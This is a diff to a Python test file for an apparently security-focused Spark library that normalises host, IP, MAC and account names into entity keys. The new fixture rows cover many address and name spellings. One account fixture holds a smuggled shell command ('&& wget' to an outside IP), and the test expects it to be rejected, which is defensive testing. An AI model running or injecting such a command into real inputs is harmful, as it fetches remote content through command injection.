@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+import re
+from collections.abc import Iterator, Sequence
+from ipaddress import IPv4Address, IPv6Address, ip_address
+from random import Random
+from typing import Any
 
 import pytest
 from pyspark.sql import SparkSession
 from pyspark.sql import functions as F
 
-from alertgraph_spark.normalise.entities import cidr_bounds, entity_key, ipv4_number, is_private, zone_of
+from alertgraph_spark.normalise.entities import cidr_bounds, entity_keys, ipv4_number, is_private, with_keys, zone_of
 
 # Kind, what a product writes, and the key; a near miss stands beside what it is near to.
 KEYS: list[tuple[str, str | None, str | None]] = [
@@ -31,6 +35,23 @@ KEYS: list[tuple[str, str | None, str | None]] = [
     ("host", "NAS", "host:nas"),
     ("host", "", None),
     ("host", None, None),
+    ("host", "FS01.corp.example.", "host:fs01"),  # the dot of the root
+    ("host", "FS01$", "host:fs01"),
+    ("host", "4711", "host:4711"),
+    ("host", "10.1.0", None),  # neither an address nor a name
+    ("host", "PLC 3", "host:plc 3"),
+    ("host", "B\u00dcRO-PC7.firma.example", "host:b\u00fcro-pc7"),
+    ("host", "BU\u0308RO-PC7.firma.example", "host:b\u00fcro-pc7"),  # two characters, as macOS writes
+    ("host", "buero-pc7.firma.example", "host:buero-pc7"),
+    ("host", "xn--bro-pc7-n2a.firma.example", "host:b\u00fcro-pc7"),
+    ("host", "XN--Fiqs8s.example", "host:\u4e2d\u56fd"),
+    ("host", "xn--zzzzzzzzzzzzzzzzzzzzzzzz", "host:xn--zzzzzzzzzzzzzzzzzzzzzzzz"),  # cannot be read: as it is
+    ("host", "x\u0308.example", "host:\u1e8d"),
+    ("host", "https://svc:pw@portal.corp.example:8443/login?x=1", "host:portal"),
+    ("host", "https://10.1.0.5:8443/login", "ip:10.1.0.5"),
+    ("host", "fs01:445", "host:fs01"),
+    ("host", "fs01-445", "host:fs01-445"),
+    ("host", "LOCALHOST.", None),
     ("ip", "10.1.0.5", "ip:10.1.0.5"),
     ("ip", "::ffff:10.1.0.5", "ip:10.1.0.5"),
     ("ip", "::FFFF:10.1.0.5", "ip:10.1.0.5"),
@@ -42,6 +63,49 @@ KEYS: list[tuple[str, str | None, str | None]] = [
     ("ip", "::1", None),
     ("ip", "::11", "ip:::11"),
     ("ip", "-", None),
+    ("ip", "2001:0db8:0000:0000:0000:0000:0000:0005", "ip:2001:db8::5"),
+    ("ip", "2001:DB8:0:0:0:0:0:5", "ip:2001:db8::5"),
+    ("ip", "fd00::9:0:0:0:31", "ip:fd00:0:0:9::31"),  # the longest run of zeros is the one that is left out
+    ("ip", "2001:db8:0:0:1:0:0:1", "ip:2001:db8::1:0:0:1"),  # of two the first
+    ("ip", "2001:db8:0:1:1:1:1:1", "ip:2001:db8:0:1:1:1:1:1"),  # one zero is written
+    ("ip", "fe80::a00:27ff:fe4c:3982%eth0", "ip:fe80::a00:27ff:fe4c:3982"),
+    ("ip", "2001:db8::9%16", "ip:2001:db8::9"),
+    ("ip", "::1%0", None),
+    ("ip", "::ffff:0a01:0005", "ip:10.1.0.5"),
+    ("ip", "0:0:0:0:0:ffff:10.1.0.5", "ip:10.1.0.5"),
+    ("ip", "0000:0000:0000:0000:0000:FFFF:0A01:0005", "ip:10.1.0.5"),
+    ("ip", "[::ffff:10.1.0.5]:443", "ip:10.1.0.5"),
+    ("ip", "::fffe:10.1.0.5", "ip:::fffe:a01:5"),
+    ("ip", "64:ff9b::10.1.0.5", "ip:64:ff9b::a01:5"),
+    ("ip", "1:2:3:4:5:6:7::8", None),
+    ("ip", "1:2:3:4:5:6:7", None),
+    ("ip", "fe80::1::2", None),
+    ("ip", "12345::1", None),
+    ("ip", "10.1.0.5:443", "ip:10.1.0.5"),
+    ("ip", "10.1.0.5-9999", "ip:10.1.0.5"),
+    ("ip", "/10.1.0.5:443", "ip:10.1.0.5"),
+    ("ip", "fs01/10.1.0.5:443", "ip:10.1.0.5"),
+    ("ip", "[2001:db8::5]:443", "ip:2001:db8::5"),
+    ("ip", "[2001:db8::5]", "ip:2001:db8::5"),
+    ("ip", "2001:db8::5:443", "ip:2001:db8::5:443"),  # without brackets it is a group
+    ("ip", "010.001.000.005", "ip:10.1.0.5"),
+    ("ip", "10.1.0.256", None),
+    ("ip", "10.1.0.5/32", "ip:10.1.0.5"),
+    ("ip", "10.1.0.0/24", None),  # a block is no machine
+    ("ip", "10.1.0.128/25", None),
+    ("ip", "10.1.0.5/24", "ip:10.1.0.5"),  # a machine's address, and how far its network goes
+    ("ip", "10.1.0.0/443", "ip:10.1.0.0"),  # no prefix is as long: a port
+    ("ip", "2001:db8::/32", None),
+    ("ip", "2001:db8::5/64", "ip:2001:db8::5"),
+    ("ip", "255.255.255.255", None),
+    ("ip", "127.9.9.9", None),
+    ("ip", "128.9.9.9", "ip:128.9.9.9"),
+    ("ip", "fs01.corp.example", "host:fs01"),  # a name where an address belongs
+    ("ip", "00:1D:9C:C0:04:9D", "mac:00:1d:9c:c0:04:9d"),
+    ("mac", "001d.9cc0.049d", "mac:00:1d:9c:c0:04:9d"),
+    ("mac", "001D9CC0049D", "mac:00:1d:9c:c0:04:9d"),
+    ("mac", "001D9CC0049D00", "mac:001d9cc0049d00"),
+    ("mac", "ff:ff:ff:ff:ff:ff", None),
     ("mac", "00:1D:9C:C0:04:9D", "mac:00:1d:9c:c0:04:9d"),
     ("mac", "00-1d-9c-c0-04-9d", "mac:00:1d:9c:c0:04:9d"),
     ("mac", "00:1d:9c:c0:04:9d#012", "mac:00:1d:9c:c0:04:9d"),
@@ -57,8 +121,23 @@ KEYS: list[tuple[str, str | None, str | None]] = [
     ("account", "-\\j.meyer", "account:j.meyer"),  # Windows says of a missing domain "-"
     ("account", "\\j.meyer", "account:j.meyer"),
     ("account", "-\\-", None),  # ... and of a missing logon "-" twice
-    ("account", "CORP\\FS01$", None),
-    ("account", "fs01$@CORP.EXAMPLE", None),
+    (
+        "account",
+        "CORP\\gmsa_backup$",
+        "account:corp\\gmsa_backup$",
+    ),  # a managed account; a machine's own needs its host
+    ("account", "john_contoso.example#EXT#@fabrikam.onmicrosoft.example", "account:contoso\\john"),  # a guest, at home
+    ("account", "john_contoso.example@fabrikam.example", "account:fabrikam\\john_contoso.example"),
+    ("account", "j_may_contoso.example#EXT#@fabrikam.example", "account:contoso\\j_may"),
+    ("account", "MicrosoftAccount\\tina.may@mail.example", "account:mail\\tina.may"),
+    ("account", "MicrosoftAccount\\tina", "account:tina"),
+    ("account", "MicrosoftAccounts\\tina", "account:microsoftaccounts\\tina"),
+    ("account", "CN=J.Meyer,OU=Staff,DC=corp,DC=example", "account:corp\\j.meyer"),
+    ("account", "NT AUTHORITY\\NetworkService", None),
+    ("account", "S-1-5-18", None),
+    ("account", "S-1-5-21-1-2-3-1001", "account:s-1-5-21-1-2-3-1001"),
+    ("account", "svc_backup && wget http://198.51.100.7/x?a=b&c=d", None),  # somebody typed a command
+    ("account", "svc_backup", "account:svc_backup"),
     ("account", "CORP\\FS01", "account:corp\\fs01"),
     ("account", "SYSTEM", None),
     ("account", "NT AUTHORITY\\SYSTEM", None),
@@ -123,14 +202,108 @@ def session(spark: SparkSession, request: pytest.FixtureRequest) -> Iterator[Spa
     spark.conf.set("spark.sql.ansi.enabled", before or "false")
 
 
-def test_keys(session: SparkSession) -> None:
-    by_kind = F.coalesce(*[F.when(F.col("kind") == k, entity_key(k, "raw")) for k in {k for k, _, _ in KEYS}])
-    frame = session.createDataFrame([(k, raw) for k, raw, _ in KEYS], "kind string, raw string")
+def keys_of(session: SparkSession, said: Sequence[tuple[str, str | None]]) -> list[str | None]:
+    """The key of each kind and text, in one Spark job."""
+    kinds = sorted({kind for kind, _ in said})
+    rows = [(n, *(text if kind == k else None for k in kinds)) for n, (kind, text) in enumerate(said)]
+    frame = session.createDataFrame(rows, f"n int, {', '.join(f'`{k}` string' for k in kinds)}").coalesce(1)
+    found = {row["n"]: row for row in entity_keys(frame, {k: k for k in kinds}).collect()}
+    return [found[n][kind] for n, (kind, _) in enumerate(said)]
 
-    found = [row["key"] for row in frame.select(by_kind.alias("key")).coalesce(1).collect()]
+
+def test_keys(session: SparkSession) -> None:
+    found = keys_of(session, [(kind, raw) for kind, raw, _ in KEYS])
 
     wrong = {(kind, raw): key for (kind, raw, want), key in zip(KEYS, found, strict=True) if key != want}
     assert wrong == {}
+
+
+LISTS: list[tuple[str, str, list[str]]] = [
+    ("ip", "203.0.113.9,198.51.100.20", ["source ip:203.0.113.9", "source ip:198.51.100.20"]),
+    ("ip", "unknown, 10.1.0.5", ["source ip:10.1.0.5"]),
+    ("ip", "10.1.0.5 10.1.0.6", ["source ip:10.1.0.5", "source ip:10.1.0.6"]),
+    ("ip", "10.1.0.0/24, 127.0.0.1", ["nobody None", "nobody None"]),
+    ("ip", "N/A", []),
+    ("host", "fs01; fs02", ["source host:fs01", "source host:fs02"]),
+    ("host", "plc 3", ["source host:plc 3"]),
+    ("account", "baker/bking/cragoso", ["source account:baker", "source account:bking", "source account:cragoso"]),
+    ("account", "CORP/baker", ["source account:corp/baker"]),
+    ("account", "a.b;c.d", ["source account:a.b", "source account:c.d"]),
+    ("account", "Meyer, Jens", ["source account:meyer, jens"]),  # a name as people write it
+]
+
+
+def test_a_list_is_several_and_none_of_them_is_the_list(session: SparkSession) -> None:
+    frame = session.createDataFrame(
+        [(n, kind, text) for n, (kind, text, _) in enumerate(LISTS)], "n int, k string, t string"
+    )
+    found = with_keys(frame.coalesce(1), "array(struct('source' as end, k as kind, lower(t) as text))").collect()
+
+    assert [[f"{key['end']} {key['key']}" for key in row["keys"]] for row in found] == [want for *_, want in LISTS]
+
+
+def test_the_account_of_a_machine_is_that_machine_and_any_other_is_an_account(session: SparkSession) -> None:
+    names = "array(struct('target' as end, 'host' as kind, 'fs01' as text), struct('other' as end, 'account' as kind, t as text))"
+    frame = session.createDataFrame([("corp\\fs01$",), ("corp\\fs011$",), ("corp\\fs01",)], "t string").coalesce(1)
+
+    keys = [[key["key"] for key in row["keys"]] for row in with_keys(frame, names).collect()]
+
+    assert keys == [["host:fs01"], ["host:fs01", "account:corp\\fs011$"], ["host:fs01", "account:corp\\fs01"]]
+
+
+def spellings(random: Random, n: int) -> Iterator[tuple[str, str | None]]:
+    """Addresses as products write them, and the key that Python's `ipaddress` gives; one in ten is broken."""
+    for _ in range(n):
+        if random.random() < 0.3:
+            address: Any = IPv4Address(random.getrandbits(32))
+            text = str(address)
+            mapped = [f"::ffff:{text}", f"0:0:0:0:0:ffff:{text}", IPv6Address(f"::ffff:{text}").exploded]
+            text = random.choice([text, text, *mapped])
+            brackets = ":" in text
+        else:
+            groups = [random.choice(["0", "0", f"{random.getrandbits(16):x}"]) for _ in range(8)]
+            address = IPv6Address(":".join(groups))
+            first = random.randrange(8)
+            last = random.randrange(first, 8)
+            zeros = all(group == "0" for group in groups[first : last + 1])
+            short = f"{':'.join(groups[:first])}::{':'.join(groups[last + 1 :])}" if zeros else ":".join(groups)
+            tail = f"{':'.join(groups[:6])}:{IPv4Address(int(address) & 0xFFFFFFFF)}"
+            text = random.choice([address.exploded, address.compressed, ":".join(groups), short, tail])
+            brackets = True
+        if random.random() < 0.1:
+            text = random.choice(
+                [text[1:], text[:-1], text.replace("0", "", 1), text + ":", text.replace(":", "::", 1)]
+            )
+        bare = random.choice([text, text.upper(), f" {text} "])
+        try:
+            # Python takes no octet that is filled with zeros; sensors write them, as decimal numbers.
+            key = canonical(ip_address(text if ":" in text else re.sub(r"(?<![0-9])0+(?=[0-9])", "", text)))
+        except ValueError:
+            key = None
+        if brackets and random.random() < 0.3:
+            bare = f"[{bare.strip()}]{random.choice(['', ':443'])}"
+        elif ":" in text and random.random() < 0.2:
+            bare = f"{bare.strip()}%{random.choice(['eth0', '2'])}"
+        elif not brackets and random.random() < 0.3:
+            bare = f"{random.choice(['', '/'])}{bare.strip()}{random.choice([':443', '-9999'])}"
+        yield bare, key
+
+
+def canonical(address: IPv4Address | IPv6Address) -> str | None:
+    plain = getattr(address, "ipv4_mapped", None) or address
+    is_nobody = plain.is_loopback or plain.is_unspecified or str(plain) in ("255.255.255.255", "169.254.169.254")
+    return None if is_nobody else f"ip:{plain}"
+
+
+def test_an_address_has_the_key_that_the_standard_library_gives(spark: SparkSession) -> None:
+    said = list(spellings(Random(19), 100_000))
+
+    found = keys_of(spark, [("ip", text) for text, _ in said])
+
+    # What is broken may be a host's name (`abcd`), but no address.
+    pairs = zip(said, found, strict=True)
+    wrong = [(text, want, key) for (text, want), key in pairs if key != want and (want or str(key).startswith("ip:"))]
+    assert wrong == []
 
 
 def test_zones_and_addresses(session: SparkSession) -> None:
